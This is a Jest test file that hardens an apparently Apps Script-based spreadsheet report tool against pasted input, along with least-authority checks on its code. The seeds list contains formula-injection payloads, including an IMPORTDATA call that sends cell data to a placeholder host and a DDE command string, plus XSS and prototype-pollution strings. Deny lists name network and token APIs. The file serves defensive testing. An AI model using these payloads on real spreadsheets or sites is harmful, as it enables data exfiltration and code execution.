/** Whatever people paste: nothing of it is a formula in our tabs, runs in the sidebar, or breaks the report. */
import { readdirSync, readFileSync } from 'node:fs';
import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { strFromU8, unzipSync } from 'fflate';
import { SaxesParser } from 'saxes';
import type { SpreadsheetModel } from '../../local/model.ts';
import { newStores } from '../../local/services/host.ts';
import { readXlsx } from '../../local/xlsx/readXlsx.ts';
import { writeXlsx } from '../../local/xlsx/writeXlsx.ts';
import { yearsAsked } from '../../src/outline/house.ts';
import { processorTime } from '../fixtures/processorTime.ts';
import {
  cellsOf,
  columnsOf,
  consolidate,
  copyForm,
  filledForm,
  findTab,
  open,
  put,
  putAt,
  rowsOf,
  tabs,
  textOf,
  type,
  units,
} from '../proofs/safety/form.ts';

const base = filledForm();
const ours = [tabs.summary, tabs.findings, tabs.log, tabs.tracking];
/** The one formula that we write: a link made of a tab's id, in a file its name, and a cell's address. */
const ownLink = /^=HYPERLINK\("#(?:gid=\d+&range=|'(?:[^'"]|'')+'!)[A-Z]+\d+";"[^"]*(?:""[^"]*)*"\)$/;

const seeds = [
  '=IMPORTDATA("https://example.invalid/"&A1)',
  '=HYPERLINK("https://example.invalid";"Bấm vào đây")',
  '=IMPORTXML(CONCAT("https://example.invalid/",A1),"//a")',
  "=cmd|'/C calc'!A0",
  '+1+1',
  '-2+3+cmd',
  '@SUM(1+1)',
  '\t=1+1',
  '\n=1+1',
  '\r\n+1',
  "'=1+1",
  '＝1+1',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  '</script><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  'a\u202egnp.exe',
  '\u2066ẩn\u2069',
  '\u0000\u0001\u0008\u000b\u001f',
  '\ufffe\uffff',
  '\ud800',
  'a\udc00b',
  ']]>&amp;<w:p/>',
  '__proto__',
  'constructor',
  'x'.repeat(50_000),
  `${'Tuyên truyền. '.repeat(3571)}`.slice(0, 50_000),
];
const letter = fc.constantFrom(
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\n',
  '"',
  "'",
  '<',
  '>',
  '&',
  ';',
  '|',
  '\u202e',
  '\u0000',
  '\ud83d',
  '\udc00',
  'ệ',
  '1',
  '0',
);
const hostile = fc.oneof(
  fc.constantFrom(...seeds),
  fc.array(letter, { maxLength: 40 }).map((letters) => letters.join('')),
  fc.string({ unit: 'binary', maxLength: 60 }),
);

const texts = [
  'van_ban_trien_khai',
  'dau_moi',
  'tiep_nhan_phan_anh',
  'nhom_1',
  'nhom_2',
  'kho_khan',
  'de_xuat',
  'giai_trinh',
  'nguoi_lap',
  'so_van_ban',
];
const figures = ['so_vu_tiep_nhan.2022', 'kinh_phi.2023', 'so_tre_duoc_ho_tro.2022', 'nhom_2_so_luot.2021'];

/** Fills cells of every kind with what is given, in turn. */
function plant(form: SpreadsheetModel, given: readonly string[]): void {
  let next = 0;
  const take = () => {
    next += 1;
    return given[next % given.length] ?? '';
  };
  for (const code of [...texts, ...figures]) type(form, tabs.answers, 'PA', code, take());
  for (const code of ['ten_co_so', 'ghi_chu', 'so_lan.2022']) type(form, tabs.establishments, 'PB', code, take());
  for (const code of ['hinh_thuc', 'ghi_chu', 'so_nan_nhan']) type(form, tabs.children, 'PB', code, take());
  for (const code of ['hinh_thuc', 'so_bi_to_giac']) type(form, tabs.offenders, 'PA', code, take());
  type(form, tabs.registry, 'GX', 'ten_don_vi', take());
  type(form, tabs.registry, 'GX', 'dia_ban', take());
  put(form, tabs.answers, rowsOf(form, tabs.answers, 'TA')[0] ?? -1, 'ma_don_vi', take());
  putAt(form, tabs.answers, 2, 100, take());
  putAt(form, tabs.answers, 60, 2, take());
}

function requireWellFormed(bytes: Uint8Array): number {
  const parts = Object.entries(unzipSync(bytes)).filter(([name]) => /\.(xml|rels)$/.test(name));
  for (const [name, xml] of parts) {
    const parser = new SaxesParser();
    parser.on('error', (error) => {
      throw new Error(`${name}: ${error.message}`);
    });
    parser.write(strFromU8(xml)).close();
  }
  return parts.length;
}

/** Formulas in our tabs that are not our own links. */
function foreignFormulas(form: SpreadsheetModel): string[] {
  return ours.flatMap((tab) =>
    [...cellsOf(form, tab).entries()]
      .filter(([, { formula }]) => formula !== undefined && !ownLink.test(formula))
      .map(([at, { formula }]) => `${tab} ${at}: ${formula}`),
  );
}

/** Formulas in the registry that are not the form's own: its locked column of years is one. */
function registryFormulas(form: SpreadsheetModel): string[] {
  const own = columnsOf(form, tabs.registry).at.get(yearsAsked.code);
  return [...findTab(form, tabs.registry).cells.values()].flatMap((cells) =>
    [...cells].flatMap(([column, { formula }]) => (formula === undefined || column === own ? [] : [formula])),
  );
}

/** Consolidates, and checks every output; `asks`: what the sidebar asks then. */
function runAll(form: SpreadsheetModel, asks: readonly (readonly string[])[] = []): void {
  const inputs = [tabs.answers, tabs.establishments, tabs.children, tabs.offenders];
  const before = inputs.map((tab) => textOf(form, tab)).join();
  const stores = newStores();
  consolidate(open(form, { stores }));
  expect(foreignFormulas(form)).toEqual([]);
  expect(inputs.map((tab) => textOf(form, tab)).join()).toBe(before);
  expect(
    stores.driveFiles.filter(({ mimeType }) => mimeType !== 'application/json').map(({ bytes }) => requireWellFormed(bytes) > 5),
  ).toEqual([true, true]);
  for (const [name = '', ...given] of asks) {
    expect(open(form, { stores }).run(name, ...given)).toMatchObject({ ok: true });
  }
}

describe('hostile cells', () => {
  test.each(seeds.map((seed) => [JSON.stringify(seed.slice(0, 40)), seed] as const))('%s in every kind of cell', (_name, seed) => {
    const form = copyForm(base);
    plant(form, [seed]);
    runAll(form);
  });

  test('made-up texts in 24 cells at a time; HOSTILE=n for n forms', () => {
    fc.assert(
      fc.property(fc.array(hostile, { minLength: 5, maxLength: 25 }), (given) => {
        const form = copyForm(base);
        plant(form, given);
        runAll(form, [['readDepartment'], ['readUnit', 'PA'], ['readUnit', 'PB'], ['startSidebar']]);
      }),
      { numRuns: Number(process.env.HOSTILE ?? 8), seed: 830 },
    );
  });

  test('the workbook is saved and read again', () => {
    const form = copyForm(base);
    plant(form, seeds);
    consolidate(open(form));
    const bytes = writeXlsx(form);
    expect(requireWellFormed(bytes)).toBeGreaterThan(10);
    expect(foreignFormulas(readXlsx(bytes, 'a.xlsx'))).toEqual([]);
  });

  test('10,000 junk rows: listed apart, nothing counted, done in time', () => {
    const form = copyForm(base);
    const clean = consolidate(open(copyForm(base))).manifest;
    const start = Math.max(...findTab(form, tabs.answers).cells.keys()) + 1;
    for (let row = 0; row < 10_000; row += 1) {
      putAt(form, tabs.answers, start + row, 0, `RÁC_${row}`);
      putAt(form, tabs.answers, start + row, 8, seeds[row % 20] ?? '');
    }
    let manifest = clean;
    const time = processorTime(() => {
      manifest = consolidate(open(form)).manifest;
    });
    expect(time).toBeLessThan(60_000);
    expect([manifest.totals, manifest.indicators]).toEqual([clean.totals, clean.indicators]);
    expect(foreignFormulas(form)).toEqual([]);
  });

  test('lists of set-up with formulas: texts in the form', () => {
    const form = copyForm(base);
    open(form).call('setUp', { units: [units[0], ['=1+1', '=HYPERLINK("x";"y")', 'truong_thpt', '@quận', 'Có']] });
    expect(registryFormulas(form)).toEqual([]);
    expect(textOf(form, tabs.registry)).toContain('=HYPERLINK("x";"y")');
  });

  test('what the Department types in the sidebar is text too', () => {
    const form = copyForm(base);
    open(form).run('actOnUnit', 'PA', { kind: 'return', reason: '=IMPORTDATA("x")', cells: '+A1', newDeadline: '' });
    open(form).run('actOnUnit', 'PB', { kind: 'extend', until: '26/12/2098', reason: '=1+1' });
    expect(foreignFormulas(form)).toEqual([]);
    expect(registryFormulas(form)).toEqual([]);
    expect(textOf(form, tabs.tracking)).toContain('=IMPORTDATA');
  });
});

describe('least authority', () => {
  const code = readFileSync('dist/code.js', 'utf8');
  const page = readFileSync('dist/sidebar.html', 'utf8');
  const sources = (folder: string) =>
    readdirSync(folder, { recursive: true, encoding: 'utf8' })
      .filter((name) => /\.tsx?$/.test(name))
      .map((name) => readFileSync(`${folder}/${name}`, 'utf8'))
      .join('\n');

  test.each([
    'UrlFetchApp',
    'MailApp',
    'GmailApp',
    'DriveApp',
    'DocumentApp',
    'ScriptApp',
    'ContactsApp',
    'CalendarApp',
    'FormApp',
    'openByUrl',
    'getViewers',
    'addEditor',
    'getOAuthToken',
    'newTrigger',
  ])('the shell never names %s', (name) => {
    expect(sources('src/gas')).not.toMatch(new RegExp(`\\b${name}\\b`));
    expect(code).not.toMatch(new RegExp(`\\b${name}\\b`));
  });

  test('one other spreadsheet is ever opened: the restricted one that a setting names', () => {
    const asked = sources('src/gas').match(/openById\([^\n]*/g) ?? [];
    expect(asked).toEqual(['openById(idInAddress.exec(named)?.[1] ?? named);']);
  });

  test('the editors asked for are those of a lock, never of the spreadsheet', () => {
    const asked = sources('src/gas').match(/\w+\.getEditors\b/g) ?? [];
    expect([...new Set(asked)]).toEqual(['protection.getEditors']);
  });

  test('the sidebar calls no network, builds no code, writes no raw HTML', () => {
    const used =
      /\b(?:fetch|XMLHttpRequest|WebSocket|EventSource|sendBeacon|eval|importScripts)\s*\(|new Function\b|\bFunction\s*\(|document\.write/g;
    expect(page.match(used)).toBeNull();
    expect(sources('src/ui')).not.toMatch(/dangerouslySetInnerHTML|innerHTML|outerHTML|insertAdjacentHTML|javascript:/);
    expect(page.match(/https?:\/\/[^\s"'<)]+/g)?.filter((address) => !address.startsWith('http://www.w3.org/')) ?? []).toEqual([]);
  });

  test('the script file calls no network and builds no code at run time', () => {
    expect(code.match(/\b(?:fetch|XMLHttpRequest|WebSocket|eval)\s*\(/g)).toBeNull();
  });
});
